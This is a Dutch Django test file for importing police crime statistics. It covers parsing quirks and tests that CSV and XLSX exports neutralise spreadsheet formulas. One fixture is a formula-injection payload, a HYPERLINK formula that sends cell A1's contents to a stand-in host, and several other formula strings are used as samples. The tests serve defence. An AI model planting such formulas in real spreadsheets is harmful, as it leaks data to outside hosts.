"""De echte bestanden uit ../shared/cases/import/ (kopie in tests/casussen/), elk één soort invoer.

Per bestand de uitkomst die de README van de casussen vraagt; daarnaast een variant van dezelfde
soort, zodat de hele soort werkt en niet alleen dit ene bestand.
"""

import csv
import io
from pathlib import Path

import tablib
from django.core.management import call_command
from django.test import TestCase
from django.urls import reverse

from cijfers.importeren import controleer_bestand
from cijfers.importeren.kolommen import lees_aantal
from cijfers.models import Categorie, Cijfer
from cijfers.veilig import neutraliseer, veilige_dataset, zonder_neutralisatie
from ivp.models import Gebied
from tests import importbestanden as ib

CASUSSEN = Path(__file__).parent / "casussen"


def lees(naam):
    return (CASUSSEN / naam).read_bytes()


class CasussenTest(TestCase):
    @classmethod
    def setUpTestData(cls):
        call_command("laad_brondata", stdout=io.StringIO())

    def cijfer(self, gebied, categorie, periode):
        return Cijfer.objects.get(gebied__slug=gebied, categorie__slug=categorie, periode=periode)

    def test_c01_pandas_floats_zijn_hele_getallen_en_een_gat_is_geheim(self):
        voorstel, _ = ib.importeer(lees("c01_pandas_to_csv_float_aantallen.csv"))
        self.assertEqual(voorstel.controle.aantal_fouten, 0)
        self.assertEqual(self.cijfer("baarn", "woninginbraken", "2024").waarde, 41)
        self.assertEqual(self.cijfer("soest", "woninginbraken", "2024").waarde, 87)
        overval = self.cijfer("baarn", "geweld-overval", "2024")
        self.assertIsNone(overval.waarde)
        self.assertEqual(overval.status, Cijfer.Status.GEHEIM)

    def test_c01_de_soort_hele_getallen_met_nullen_en_echte_breuken(self):
        for tekst in ("41.0", "41.00", "41,0", "41,00", "41"):
            self.assertEqual(lees_aantal(tekst), 41, tekst)
        # Een echte breuk en een mogelijke duizendtalpunt blijven fouten.
        for tekst in ("41.5", "1.000", "41,05"):
            self.assertNotIsInstance(lees_aantal(tekst), int, tekst)
        inhoud = ib.politie_csv([("1.1.1", "GM0308", "2024JJ00", "41.5")])
        controle = controleer_bestand(inhoud)
        self.assertEqual(controle.aantal_fouten, 1)
        self.assertEqual(controle.fouten[0].waarde, "41.5")

    def test_c02_een_en_twee_sterren_zijn_voorlopig_en_definitief_wint(self):
        ib.importeer(lees("c02_label_nader_voorlopig_dubbel_sterretje.csv"))
        self.assertEqual(self.cijfer("baarn", "woninginbraken", "2023").status, "definitief")
        for periode, waarde in [("2024", 38), ("2025", 30)]:
            cijfer = self.cijfer("baarn", "woninginbraken", periode)
            self.assertEqual((cijfer.waarde, cijfer.status), (waarde, Cijfer.Status.VOORLOPIG))
        # Definitief vervangt nader voorlopig; voorlopig vervangt definitief nooit.
        definitief = ib.sjabloon_csv([["Baarn", "woninginbraken", 2024, 2024, 39, "", ""]])
        ib.importeer(definitief)
        cijfer = self.cijfer("baarn", "woninginbraken", "2024")
        self.assertEqual((cijfer.waarde, cijfer.status), (39, Cijfer.Status.DEFINITIEF))
        voorstel, _ = ib.importeer(
            lees("c02_label_nader_voorlopig_dubbel_sterretje.csv"), alleen_geldige=True
        )
        self.assertEqual(self.cijfer("baarn", "woninginbraken", "2024").waarde, 39)
        self.assertEqual(voorstel.afgewezen_bij_vergelijking, 1)

    def test_c02_afgewezen_rij_toont_de_cel_van_het_bestand(self):
        # Proefgebruiker, punt 16: de cel is "38" (de sterren staan in de periode "2024**"),
        # dus de kolom Waarde van de afgewezen rij toont 38 en niet 38*.
        ib.importeer(ib.sjabloon_csv([["Baarn", "woninginbraken", 2024, 2024, 39, "", ""]]))
        voorstel, _ = ib.importeer(
            lees("c02_label_nader_voorlopig_dubbel_sterretje.csv"), alleen_geldige=True
        )
        (fout,) = voorstel.alle_fouten
        self.assertEqual((fout.rij, fout.waarde), (3, "38"))
        self.assertIn("volgens het bestand voorlopig", fout.reden)
        self.assertEqual(voorstel.samenvatting()["fouten"][0][2], "38")

    def test_c03_en_c04_lege_rijen_van_excel_worden_overgeslagen_en_geteld(self):
        for naam in (
            "c03_sjabloon_excel_lege_puntkommarijen.csv",
            "c04_sjabloon_xlsx_opgemaakte_lege_rijen.xlsx",
        ):
            with self.subTest(naam=naam):
                controle = controleer_bestand(lees(naam))
                self.assertEqual((len(controle.regels), controle.aantal_fouten), (2, 0))
                self.assertGreater(controle.overgeslagen["lege rijen overgeslagen"], 0)

    def test_c03_de_soort_lege_rijen_van_elke_breedte(self):
        kop = "gebied;categorie;jaar;periode;waarde;bron;status\n"
        inhoud = (kop + "Soest;woninginbraken;2024;2024;52;;\n;;\n;;;;;;;;;;\n ; ;;;;;\n").encode()
        controle = controleer_bestand(inhoud)
        self.assertEqual((len(controle.regels), controle.aantal_fouten), (1, 0))
        self.assertEqual(controle.overgeslagen["lege rijen overgeslagen"], 3)
        xlsx = ib.xlsx(
            ["gebied", "categorie", "jaar", "periode", "waarde"],
            [["Soest", "woninginbraken", 2024, "2024", 52], [None] * 5, [None] * 8],
        )
        controle = controleer_bestand(xlsx)
        self.assertEqual((len(controle.regels), controle.aantal_fouten), (1, 0))

    def test_c07_herhaalde_kopregel_is_een_melding_geen_vier_fouten(self):
        voorstel, _ = ib.importeer(lees("c07_politie_twee_downloads_herhaalde_kopregel.csv"))
        controle = voorstel.controle
        self.assertEqual((len(voorstel.toegevoegd), controle.aantal_fouten), (2, 0))
        self.assertEqual(dict(controle.overgeslagen), {"kopregel herhaald op rij 3": 1})

    def test_c07_de_soort_herhaalde_kopregel_in_het_sjabloon(self):
        kop = "gebied,categorie,jaar,periode,waarde"
        inhoud = f"{kop}\nSoest,autokraak,2024,2024,5\n{kop}\nBaarn,autokraak,2024,2024,6\n"
        controle = controleer_bestand(inhoud.encode())
        self.assertEqual((len(controle.regels), controle.aantal_fouten), (2, 0))
        self.assertEqual(dict(controle.overgeslagen), {"kopregel herhaald op rij 3": 1})


class FormulesInExportsTest(TestCase):
    """c11: een bron die een formule is, wordt in geen enkele export een werkende formule, en
    exporteren en weer importeren verandert niets."""

    FORMULE = '=HYPERLINK("http://voorbeeld.invalid/?d="&A1;"bron")'

    @classmethod
    def setUpTestData(cls):
        call_command("laad_brondata", stdout=io.StringIO())
        ib.importeer(lees("c11_sjabloon_bron_als_formule.csv"))

    def test_de_bron_is_opgeslagen_zoals_in_het_bestand(self):
        cijfer = Cijfer.objects.get(gebied__slug="soest", categorie__slug="woninginbraken",
                                    periode="2024")  # fmt: skip
        self.assertEqual(cijfer.bron.titel, self.FORMULE)

    def test_data_csv_neutraliseert_en_terug_importeren_verandert_niets(self):
        response = self.client.get(reverse("cijfers:data_csv"))
        inhoud = b"".join(response.streaming_content)
        rijen = list(csv.reader(io.StringIO(inhoud.decode())))
        bronnen = {rij[5] for rij in rijen[1:]}
        self.assertIn("'" + self.FORMULE, bronnen)
        self.assertFalse([b for b in bronnen if b.startswith(("=", "+", "-", "@"))])
        voor = ib.stand()
        voorstel, _ = ib.importeer(inhoud, naam="export.csv")
        self.assertEqual(len(voorstel.toegevoegd) + len(voorstel.gewijzigd), 0)
        na = ib.stand()  # de import zelf telt als uitgevoerde import (element 4)
        self.assertEqual(na[:4] + na[5:], voor[:4] + voor[5:])

    def test_tabelexport_als_xlsx_heeft_geen_formules(self):
        soest = Gebied.objects.get(slug="soest")
        Categorie.objects.filter(slug="autokraak").update(naam="=1+1 autokraak")
        response = self.client.get(
            reverse("cijfers:gebied", args=[soest.slug]), {"_export": "xlsx"}
        )
        boek = tablib.Dataset().load(response.content, format="xlsx")
        cellen = [cel for rij in boek for cel in rij if isinstance(cel, str)]
        self.assertIn("'=1+1 autokraak", cellen)
        self.assertFalse([cel for cel in cellen if cel.startswith("=")])

    def test_veilige_dataset_zoals_het_vergaderstuk_hem_gebruikt(self):
        blad = tablib.Dataset(["@SUM(A1)", "-2+3", 5], headers=["Punt", "Toelichting", "Aantal"],
                              title="Driehoek BES")  # fmt: skip
        veilig = veilige_dataset(blad)
        self.assertEqual(list(veilig[0]), ["'@SUM(A1)", "'-2+3", 5])
        self.assertEqual((veilig.headers, veilig.title), (blad.headers, "Driehoek BES"))
        boek = tablib.Dataset().load(tablib.Databook([veilig]).export("xlsx"), format="xlsx")
        self.assertEqual(list(boek[0])[:2], ["'@SUM(A1)", "'-2+3"])

    def test_neutraliseer_en_terug(self):
        for tekst in ("=1", "+1", "-1", "@x", "\tx", "\rx"):
            self.assertEqual(neutraliseer(tekst), "'" + tekst)
            self.assertEqual(zonder_neutralisatie(neutraliseer(tekst)), tekst)
        for waarde in ("gewoon", "'quote", -1, 2.5, None, "−4 (echt minteken)"):
            self.assertEqual(neutraliseer(waarde), waarde)
        self.assertEqual(zonder_neutralisatie("'gewoon"), "'gewoon")
